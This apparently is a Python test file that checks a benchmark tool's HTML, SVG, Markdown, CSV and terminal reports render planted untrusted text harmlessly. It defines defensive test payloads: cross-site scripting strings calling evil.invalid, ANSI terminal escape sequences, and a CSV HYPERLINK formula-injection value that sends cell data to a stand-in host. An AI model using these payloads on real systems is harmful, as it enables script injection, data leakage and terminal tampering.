"""A record that anyone may have made runs nothing where it is shown: in the page, in the figures, in Markdown,
in a spreadsheet, in a terminal. A text is planted into every field of every document, keys included."""

from __future__ import annotations

import csv as csv_reader
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache, cached_property
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bench.judge.comparison import Comparison, compare
from bench.record.depths import DepthTimes
from bench.record.forecast import Forecast, save_forecast
from bench.record.schema import Record
from bench.record.store import Store
from bench.record.triage import Triage, save_triage
from bench.record.writing import write_atomically
from bench.show.drawing import Plot
from bench.show.forecast import forecast_table
from bench.show.ladder import ladder_text
from bench.show.margin import margin_table
from bench.show.page import page
from bench.show.plots import plots
from bench.show.progress import Display
from bench.show.runs_shown import margins_of
from bench.show.tables import csv, markdown, terminal_table
from bench.show.terminal import Terminal
from tests.browser import find_browser, launched
from tests.fit_factory import forecast
from tests.front import CONTROL, Front
from tests.planting import filled, literals, texts_of
from tests.record_factory import margin_runs, planted, record, triage

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

MARK = "planted"
EVIL = (
    # Its beginning and its end are what a figure shows of a long name.
    f"{MARK}\"'>]]></style></script></pre></title><img src=http://evil.invalid/a onerror=window.ran=1><svg onload=window.ran=2>"
    "<a href=javascript:window.ran=3>x</a><iframe srcdoc='<script>parent.ran=4</script>'> --steps \" onmouseover=window.ran=5 "
    "style=\"background:url(http://evil.invalid/b)\" '--><!--<script>window.ran=6</script><style>@import 'http://evil.invalid/c';"
    "*{background:url(http://evil.invalid/d)}</style><link rel=stylesheet href=//evil.invalid/e>"
    "<meta http-equiv=refresh content=0;url=//evil.invalid> {{7*7}} ${7*7} <%=7*7%> &#60;script&#62; &lt;b&gt; url(#x) #010203 "
    "[x](javascript:window.ran=7) ![x](http://evil.invalid/f) <http://evil.invalid/g> id=\"x\" <b>'\"<"
)
TERMINAL = f"{MARK}\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b1m\x00\x08\x7f\u202enwod\u2028[bold red]x[/]"


def harmless(payload: str) -> str:
    """As many words of as many letters, so that all that is laid out by words is laid out alike."""
    # A capital: "--" before a small letter is a command's flag, which the page marks up.
    return re.sub(r"[^A-Za-z0-9 -]", "X", payload)


def planted_everywhere(text: str) -> tuple[list[Record], Triage, Forecast]:
    """Records of every status, and the documents beside them."""
    made = [filled(Record, text, choice) for choice in range(literals(Record))]
    apart = [one.model_copy(update={"key": f"{one.key}{place}"}) for place, one in enumerate(made)]
    margins = [one.model_copy(update={"message": text, "command": text}) for one in margin_runs("hqq", 11)[:2]]
    return [planted(text), *apart, *margins], filled(Triage, text), filled(Forecast, text)


@dataclass
class Shown:
    """Everything that a report is made of."""

    comparison: Comparison
    triage: Triage
    forecast: Forecast

    @classmethod
    def of(cls, text: str) -> Shown:
        records, found, answer = planted_everywhere(text)
        return cls(compare(records), found, answer)

    @cached_property
    def plots(self) -> tuple[Plot, ...]:
        return plots(self.comparison, self.forecast)

    @cached_property
    def markdown(self) -> str:
        return markdown(self.comparison, self.triage, self.forecast)

    def written(self, folder: Path) -> tuple[Path, list[Path]]:
        """The page and the figures, as the report writes them."""
        html = write_atomically(folder / "report.html", page(self.comparison, self.plots, self.triage, self.forecast))
        return html, [write_atomically(folder / f"{plot.name}.svg", plot.standalone) for plot in self.plots]


@cache
def shown(text: str) -> Shown:
    """Drawn once for all tests: figures take a second."""
    return Shown.of(text)


# ---- what is planted ------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [Record, Triage, Forecast, DepthTimes])
def test_every_text_of_a_document_is_planted(kind: Any) -> None:
    text = "planted \U0001f331"
    body = filled(kind, text).model_dump(mode="json")
    places = texts_of(kind)
    assert len(places) > 10
    for place in places:
        assert set(_at(body, place.split("."))) == {text}, place


def _at(value: Any, path: list[str]) -> Iterator[Any]:
    if isinstance(value, list):
        for one in value:
            yield from _at(one, path)
    elif not path:
        yield value
    elif path[0] == "(key)":
        yield from value
    elif path[0] == "(value)":
        for one in value.values():
            yield from _at(one, path[1:])
    else:
        yield from _at(value[path[0]], path[1:])


# ---- the page, in a browser ------------------------------------------------------------------------

OUTLINE = """() => [...document.querySelectorAll('*')].filter(element => !element.ownerSVGElement).map(element =>
    [element.tagName, ...[...element.attributes].map(attribute => attribute.name).sort()].join(' '))"""
"""Every element in order, with the names of its attributes; of a figure its root, for how many ticks an axis has
depends on the length of the names beside it."""
DRAWN = """() => [...new Set([...document.querySelectorAll('svg *')].flatMap(element =>
    [element.tagName, ...[...element.attributes].map(attribute => '@' + attribute.name)]))].sort()"""
"""The kinds of elements and attributes inside the figures."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if find_browser() is None:
        pytest.skip("no Chromium on this machine")
    pytest.importorskip("playwright.sync_api")
    with launched() as chromium:
        yield chromium


def opened(browser: Browser, path: Path, **options: Any) -> tuple[Page, list[str]]:
    """A page, and what it does that it should not."""
    tab = browser.new_page(**options)
    faults: list[str] = []
    tab.on("console", lambda message: faults.append(message.text) if message.type == "error" else None)
    tab.on("pageerror", lambda error: faults.append(str(error)))
    tab.on("dialog", lambda dialog: faults.append("a dialog"))
    tab.on("request", lambda request: None if request.url == path.as_uri() else faults.append(request.url))
    tab.on("framenavigated", lambda frame: None if frame.url == path.as_uri() else faults.append(frame.url))
    tab.goto(path.as_uri())
    return tab, faults


@pytest.mark.parametrize("policy", ["kept", "lifted"])
def test_nothing_of_a_planted_text_becomes_part_of_the_page(browser: Browser, tmp_path: Path, policy: str) -> None:
    """Nothing runs and nothing is fetched, also without the content security policy, which stands behind the
    escaping; and the page has the elements and attributes that it has for a harmless text, no other."""
    outlines = []
    for name, text in (("evil", EVIL), ("plain", harmless(EVIL))):
        html, _ = shown(text).written(tmp_path / name)
        tab, faults = opened(browser, html, bypass_csp=policy == "lifted")
        tab.mouse.move(300, 300)
        for button in tab.get_by_role("button").all()[:12]:
            button.click()
        assert tab.evaluate("window.ran") is None
        assert tab.evaluate("[document.scripts.length, document.styleSheets.length]") == [1, 1]
        assert tab.evaluate("document.querySelectorAll('iframe, object, embed, img, base, form').length") == 0
        assert faults == []
        assert MARK in tab.inner_text("main")
        outlines.append((tab.evaluate(OUTLINE), tab.evaluate(DRAWN)))
        tab.close()
    assert outlines[0] == outlines[1]


def test_figures_by_themselves_run_nothing(browser: Browser, tmp_path: Path) -> None:
    both = [shown(text).written(tmp_path / name)[1] for name, text in (("evil", EVIL), ("plain", harmless(EVIL)))]
    assert len(both[0]) >= 8
    for paths in zip(*both, strict=True):
        outlines = []
        for path in paths:
            tab, faults = opened(browser, path)
            assert faults == []
            assert tab.evaluate("window.ran") is None
            outlines.append((tab.evaluate(OUTLINE), tab.evaluate(DRAWN)))
            tab.close()
        assert outlines[0] == outlines[1], paths[0].name


# ---- the same without a browser ---------------------------------------------------------------------


TAGS = {"svg", "style", "defs", "g", "path", "use", "text", "tspan", "rect", "clipPath", "pattern", "title", "line"}


@pytest.mark.parametrize("text", [EVIL, TERMINAL], ids=["evil", "terminal"])
def test_figures_are_well_formed_and_hold_the_text_as_text(text: str) -> None:
    named = 0
    for plot in shown(text).plots:
        root = ElementTree.fromstring(plot.standalone)
        assert {element.tag.rpartition("}")[2] for element in root.iter()} <= TAGS
        for element in root.iter():
            assert not [name for name in element.attrib if name.lower().startswith("on")]
            # Whose a mark is, is told in letters, digits and hyphens.
            assert re.fullmatch(r"[a-z0-9-]*", element.attrib.get("data-backend", ""))
            named_in = set(element.attrib) - {"aria-label", "data-backend"}
            assert all(MARK not in element.attrib[name] for name in named_in)
        named += MARK in "".join(root.itertext())
    assert named >= 5


def test_a_name_that_looks_like_an_attribute_is_shown_as_it_is() -> None:
    name = 'a id="x" url(#y) #010203'
    (plot,) = [p for p in plots(compare([planted(name)])) if p.name == "step-time"]
    assert name in "".join(ElementTree.fromstring(plot.standalone).itertext())


def markdown_tokens(text: str) -> list[Token]:
    found = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
    return [inner for token in found for inner in (token, *(token.children or ()))]


def test_markdown_renders_to_text() -> None:
    tokens = markdown_tokens(shown(EVIL).markdown)
    assert not [t.content for t in tokens if t.type in ("html_block", "html_inline", "link_open", "image")]
    assert any(MARK in token.content for token in tokens if token.type == "text")


def test_no_line_of_a_text_becomes_a_block_of_the_markdown() -> None:
    """A text with line feeds stays in its cell or its item."""
    both = [Shown.of(text).markdown for text in (f"{MARK}\n\n# head\n\n~~~\n<b>x\n\n---\n", f"{MARK} x head xxx xbxx xxx")]
    blocks = [[t.type for t in markdown_tokens(text) if t.type not in ("text", "em_open", "em_close")] for text in both]
    assert blocks[0] == blocks[1]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n="])
def test_no_cell_of_the_csv_is_a_formula(start: str) -> None:
    found = Shown.of(f'{start}HYPERLINK("http://evil.invalid?"&A1)')
    rows = list(csv_reader.reader(io.StringIO(csv(found.comparison))))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert len(cells) > 20
    # A carriage return is spelt out, and what begins with its backslash is no formula.
    assert start == "\r=" or sum(cell.startswith("'") for cell in cells) > 20
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_numbers_of_the_csv_stay_numbers(tmp_path: Path) -> None:
    made = record("hqq", exit_code=-9, steps=())
    (head, row) = list(csv_reader.reader(io.StringIO(csv(compare([made])))))
    assert dict(zip(head, row, strict=True))["exit_code"] == "-9"


# ---- a terminal ---------------------------------------------------------------------------------------


def put_planted(folder: Path, text: str) -> None:
    records, found, answer = planted_everywhere(text)
    for place, one in enumerate(records):
        Store(folder).save(one.model_copy(update={"key": f"run{place}"}))
    save_triage(folder, found)
    save_forecast(folder, answer)


@pytest.mark.parametrize("arguments", [("runs",), ("runs", "--json"), ("report",), ("report", "--json")])
def test_no_command_hands_control_characters_to_the_terminal(front: Front, arguments: tuple[str, ...]) -> None:
    put_planted(Path("records"), TERMINAL)
    (Path("records") / "triage.json").unlink()  # its rungs would take every record out of the table
    ended = front.holds([arguments[0], "records", *arguments[1:]])
    assert ended.code == 0
    if arguments[0] == "runs":
        assert MARK in ended.out


def test_a_refusal_hands_none_to_the_terminal(front: Front) -> None:
    put_planted(Path("records"), "fine")
    path = next(Path("records").glob("*.record.json"))
    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | {TERMINAL: 1}), encoding="utf-8")
    assert "\\x1b[2J" in front.holds(["runs", "records"], path.name).err


@pytest.mark.parametrize("colours", [True, False])
def test_what_is_printed_at_the_end_of_a_run_holds_none_but_its_own(colours: bool) -> None:
    """Tables, ladders and forecasts, in a terminal with and without colours."""
    records, found, answer = planted_everywhere(TERMINAL)
    stream = io.StringIO()
    console = Terminal(file=stream, width=200, force_terminal=colours, color_system="standard" if colours else None)
    with Display(console) as display:
        for record in records:
            display.ended(record)
    comparison = compare(records)
    for shown in (terminal_table(comparison), ladder_text(found), forecast_table(answer), margin_table(margins_of(comparison))):
        console.print(shown)
    # rich's own: colours (SGR), and what its live display moves and hides.
    text = re.sub(r"\x1b\[(?:[0-9;]*m|[0-9]*[AGK]|2K|\?25[hl])|\r", "", stream.getvalue()) if colours else stream.getvalue()
    assert not CONTROL.search(text), repr(CONTROL.search(text))
    assert "\\x1b[2J" in text
    assert not re.search(r"\x1b\[2J|\x1b\]", stream.getvalue())


def test_the_factories_documents_may_hold_anything_too() -> None:
    text = page(compare([planted(EVIL)]), (), triage(EVIL), forecast(text=EVIL))
    assert EVIL not in text
    assert text.lower().count("<script") == 1
